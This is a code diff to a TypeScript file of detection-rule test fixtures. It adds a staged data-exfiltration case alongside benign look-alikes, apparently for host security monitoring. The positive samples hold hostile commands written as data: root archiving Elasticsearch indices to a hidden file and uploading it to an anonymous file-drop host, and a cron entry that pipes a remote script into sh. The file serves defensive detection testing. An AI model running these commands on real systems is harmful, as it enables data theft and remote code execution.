@@ -93,6 +93,26 @@ export const FIXTURES: Record<string, DetectionFixture> = {
     }),
     kept: ["cloud-init:disable-root-opts", "automation:config-management-key"],
   },
+  "staged-data-exfiltration": {
+    // An Elasticsearch node's data archived under a hidden name in /dev/shm and posted to an anonymous file-drop host.
+    positive: host({
+      shell_history: [
+        { uid: "0", command: "tar czf /dev/shm/.es_snap.tgz /var/lib/elasticsearch/nodes/0/indices", history_file: "/root/.bash_history" },
+        { uid: "0", command: "curl -s -F file=@/dev/shm/.es_snap.tgz https://0x0.st", history_file: "/root/.bash_history" },
+      ],
+      users: [{ uid: "0", username: "root", directory: "/root" }],
+    }),
+    // Logs archived in /tmp and copied to the internal backup host; a build artefact pushed to the internal Nexus; a
+    // support bundle fetched (a download, not an upload).
+    benign: host({
+      shell_history: [
+        { uid: "1000", command: "tar czf /tmp/app-logs.tgz /var/log/app && scp /tmp/app-logs.tgz backup01:/srv/logs/", history_file: "/home/ops/.bash_history" },
+        { uid: "1000", command: "curl -u ci:token -T /tmp/build/app-1.4.2.tar.gz https://nexus.corp/repository/raw/app/", history_file: "/home/ops/.bash_history" },
+        { uid: "1000", command: "curl -o /tmp/bundle.tgz https://downloads.example.com/support/bundle.tgz", history_file: "/home/ops/.bash_history" },
+      ],
+      users: [{ uid: "1000", username: "ops", directory: "/home/ops" }],
+    }),
+  },
   "suspicious-cron": {
     positive: host({ crontab: [{ minute: "*/5", hour: "*", day_of_month: "*", month: "*", day_of_week: "*", command: "root wget -qO- http://198.51.100.3/a.sh | sh", path: "/etc/cron.d/sysupdate" }] }),
     // Debian web server: stock /etc/crontab and certbot's cron.d job; root's restic backup pinging healthchecks.io.
